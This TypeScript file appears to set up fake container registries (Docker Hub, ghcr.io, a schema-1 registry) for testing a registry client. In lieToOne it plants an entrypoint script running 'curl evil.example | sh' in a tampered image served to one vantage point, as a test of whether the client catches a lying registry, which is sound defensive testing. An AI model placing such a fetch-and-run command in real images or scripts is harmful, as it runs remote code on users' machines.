import { gzipSync } from "node:zlib";
import { makeBottleIndex } from "../lab/bottles.ts";
import {
  blobOf,
  descriptorOf,
  DOCKER_CONFIG,
  DOCKER_LAYER,
  DOCKER_MANIFEST,
  documentOf,
  makeIndex,
  OCI_CONFIG,
  OCI_LAYER,
  OCI_MANIFEST,
  digestOf,
  tarOf,
  type Image,
} from "../lab/image.ts";
import { blobAnswer } from "../lab/liar-shelf.ts";
import type { Liar } from "../lab/liar.ts";
import { makeSchema1, oldLayer, type Step } from "./schema1.ts";
import { json, open, tokens, withHeaders, type Gate } from "./shop.ts";

/** The hosts that `docs/walkthrough.md` meets. */
export const SEED_HOSTS = [
  "registry-1.docker.io",
  "auth.docker.io",
  "production.cloudflare.docker.com",
  "ghcr.io",
  "pkg-containers.githubusercontent.com",
  "old.registry.example",
];

/** A small image with the same bytes wherever it is made. */
function imageOf(
  files: readonly (readonly [name: string, content: string])[],
  architecture: string,
  docker: boolean,
): Image {
  const tars = files.map(([name, content]) => tarOf(Buffer.from(content), name));
  const layers = tars.map((tar) => blobOf(docker ? DOCKER_LAYER : OCI_LAYER, gzipSync(tar, { level: 0 })));
  const rootfs = { type: "layers", diff_ids: tars.map((tar) => digestOf(tar)) };
  const config = documentOf(docker ? DOCKER_CONFIG : OCI_CONFIG, {
    architecture,
    os: "linux",
    config: { Entrypoint: ["docker-hitch-entrypoint"], WorkingDir: "/etc/hitch" },
    rootfs,
  });
  const mediaType = docker ? DOCKER_MANIFEST : OCI_MANIFEST;
  const manifest = documentOf(mediaType, {
    schemaVersion: 2,
    mediaType,
    config: descriptorOf(config),
    layers: layers.map(descriptorOf),
  });
  return { manifest, config, layers };
}

const STEPS: readonly Step[] = [
  {
    command: "/bin/sh -c #(nop) ADD file:9b38b383dd93169a663eed88edf3f2285b837257ead69dc40ab5ed1fb3f52c35 in / ",
    layer: oldLayer("etc/debian_version", "11.9\n".repeat(2000)),
  },
  { command: '/bin/sh -c #(nop) CMD ["bash"]' },
  { command: "/bin/sh -c #(nop) ARG SRCVER=1.8.0" },
  { command: "/bin/sh -c #(nop) ARG PKGVER=1" },
  {
    command: "|2 PKGVER=1 SRCVER=1.8.0 /bin/sh -c set -ex; apt-get install hitch",
    layer: oldLayer("usr/sbin/hitch", "\x7fELF hitch 1.8.0\n".repeat(300)),
  },
  { command: "/bin/sh -c #(nop) WORKDIR /etc/hitch" },
  {
    command: "/bin/sh -c #(nop) COPY file:1abf3c94 in /usr/local/bin/ ",
    layer: oldLayer("usr/local/bin/docker-hitch-entrypoint", '#!/bin/sh\nexec hitch "$@"\n'),
  },
  { command: '/bin/sh -c #(nop) ENTRYPOINT ["docker-hitch-entrypoint"]' },
  { command: "/bin/sh -c #(nop) CMD []" },
];

const FILES: readonly (readonly [string, string])[] = [
  ["etc/debian_version", "11.9\n".repeat(2000)],
  ["usr/sbin/hitch", "\x7fELF hitch 1.8.0\n".repeat(300)],
  ["usr/local/bin/docker-hitch-entrypoint", '#!/bin/sh\nexec hitch "$@"\n'],
];

const HUB_STORAGE =
  "https://production.cloudflare.docker.com/registry-v2/docker/registry/v2/blobs/sha256/DIGEST/data?verify=1-a";

/** hitch on Docker Hub as it is served today: a list with two platforms, blobs on a CDN, pulls counted. */
function openDockerHub(liar: Liar): void {
  const images = ["amd64", "arm64"].map((architecture) => imageOf(FILES, architecture, true));
  const entries = images.map(({ manifest }, place) => ({
    manifest,
    platform: { os: "linux", architecture: place === 0 ? "amd64" : "arm64" },
  }));
  const gate = tokens(liar, {
    realm: "https://auth.docker.io/token",
    service: "registry.docker.io",
    scope: "repository:library/hitch:pull",
    challenge: 'Bearer realm="https://auth.docker.io/token",service="registry.docker.io"',
    answer: (token) => ({ token, access_token: token, expires_in: 300 }),
  });
  open(liar, {
    host: "registry-1.docker.io",
    repository: "library/hitch",
    tag: "1.8.0-1",
    artifact: { root: makeIndex(entries, { docker: true }), images },
    gate,
    storage: HUB_STORAGE,
    document: (honest) =>
      withHeaders(honest, { "Ratelimit-Limit": "100;w=21600", "Ratelimit-Remaining": "76;w=21600" }),
  });
  lieToOne(liar, images, gate);
  const tags = [
    "1",
    "1.7",
    "1.7.0",
    "1.7.0-1",
    "1.7.2",
    "1.7.2-1",
    "1.7.3",
    "1.7.3-1",
    "1.8",
    "1.8.0",
    "1.8.0-1",
    "latest",
  ];
  serveTags(liar, "registry-1.docker.io", "library/hitch", [tags], gate);
}

/** `hitch:1.8.0` is a single image, and another one for sgp. */
function lieToOne(liar: Liar, images: readonly Image[], gate: Gate): void {
  const place = { host: "registry-1.docker.io", repository: "library/hitch", storage: HUB_STORAGE };
  const [honest] = images;
  const evil = imageOf(
    [...FILES.slice(0, 2), ["usr/local/bin/docker-hitch-entrypoint", "#!/bin/sh\ncurl evil.example | sh\n"]],
    "amd64",
    true,
  );
  for (const image of honest === undefined ? [] : [honest, evil]) {
    open(liar, {
      ...place,
      tag: image === honest ? "1.8.0" : null,
      artifact: { root: image.manifest, images: [image] },
      gate,
    });
  }
  const headers = { "Content-Type": evil.manifest.mediaType };
  liar.lie(
    "sgp",
    `http://${place.host}/v2/library/hitch/manifests/1.8.0`,
    (request) => gate(request) ?? { headers, body: evil.manifest.bytes },
  );
}

/** `pages` of tags, each with the link that ghcr.io writes. */
export function serveTags(
  liar: Liar,
  host: string,
  repository: string,
  pages: readonly (readonly string[])[],
  gate?: Gate,
): void {
  const path = `/v2/${repository}/tags/list`;
  pages.forEach((tags, place) => {
    const query = place === 0 ? "" : `?last=${pages[place - 1]?.at(-1) ?? ""}&n=0`;
    const link = place === pages.length - 1 ? {} : { Link: `<${path}?last=${tags.at(-1) ?? ""}&n=0>; rel="next"` };
    liar.answer(
      `http://${host}${path}${query}`,
      (request) => gate?.(request) ?? json({ name: repository, tags }, link),
    );
  });
}

/** The same image at a registry that has it as Docker schema 1 only, signed anew for everybody. */
function openOldRegistry(liar: Liar): void {
  const image = makeSchema1("library/hitch", "1.8.0-1", STEPS);
  liar.answer("http://old.registry.example/v2/library/hitch/manifests/1.8.0-1", (request) => ({
    headers: {
      "Content-Type": "application/vnd.docker.distribution.manifest.v1+prettyjws",
      "Docker-Content-Digest": image.digest,
    },
    body: image.body(request.vantage),
  }));
  for (const layer of image.layers) {
    liar.answer(`http://old.registry.example/v2/library/hitch/blobs/${layer.digest}`, blobAnswer(layer.bytes));
  }
}

function openGhcr(liar: Liar): void {
  const gateTo = (repository: string): Gate =>
    tokens(liar, {
      realm: "https://ghcr.io/token",
      service: "ghcr.io",
      scope: `repository:${repository}:pull`,
      challenge: 'Bearer realm="https://ghcr.io/token",service="ghcr.io",scope="repository:user/image:pull"',
    });
  const storage = "https://pkg-containers.githubusercontent.com/ghcr1/blobs/DIGEST?se=2026-10-19T23%3A35%3A00Z&sig=a";
  const bottles = vimBottles();
  const vim = gateTo("homebrew/core/vim");
  const artifact = { root: bottles.index, images: [...bottles.images.values()] };
  open(liar, { host: "ghcr.io", repository: "homebrew/core/vim", tag: bottles.tag, artifact, gate: vim, storage });
  serveTags(
    liar,
    "ghcr.io",
    "homebrew/core/vim",
    [
      ["8.2.2725", "8.2.2725_1", "9.0.1500"],
      ["9.0.1900", "9.0.1900_1"],
    ],
    vim,
  );
  const nginx = ["amd64", "arm64"].map((architecture) =>
    imageOf([["etc/nginx/nginx.conf", "events {}\n"]], architecture, false),
  );
  const root = makeIndex(
    nginx.map(({ manifest }, place) => ({
      manifest,
      platform: { os: "linux", architecture: place === 0 ? "amd64" : "arm64" },
    })),
  );
  const labs = {
    host: "ghcr.io",
    repository: "iximiuz/labs/nginx",
    tag: "latest",
    artifact: { root, images: nginx },
    storage,
  };
  open(liar, { ...labs, gate: gateTo("iximiuz/labs/nginx") });
}

/** Bottles of vim 9.0.1900 with as many entries for each platform as the real index has. */
function vimBottles(): ReturnType<typeof makeBottleIndex> {
  const mac = (tag: string, architecture: string, version: string) => ({
    tag,
    platform: { architecture, os: "darwin", "os.version": `macOS ${version}` },
    content: Buffer.from(`vim for ${tag}\n`.repeat(500)),
  });
  return makeBottleIndex({
    formula: "vim",
    version: "9.0.1900",
    bottles: [
      ...[
        mac("arm64_sonoma", "arm64", "14"),
        mac("arm64_ventura", "arm64", "13"),
        mac("arm64_monterey", "arm64", "12.6"),
      ],
      ...[mac("arm64_big_sur", "arm64", "11.6"), mac("sonoma", "amd64", "14"), mac("ventura", "amd64", "13")],
      ...[mac("monterey", "amd64", "12.6"), mac("big_sur", "amd64", "11.7")],
      {
        ...mac("x86_64_linux", "amd64", ""),
        platform: { architecture: "amd64", os: "linux", "os.version": "Ubuntu 22.04.3" },
      },
    ],
  });
}

export function openSeeds(liar: Liar): void {
  openDockerHub(liar);
  openOldRegistry(liar);
  openGhcr(liar);
}
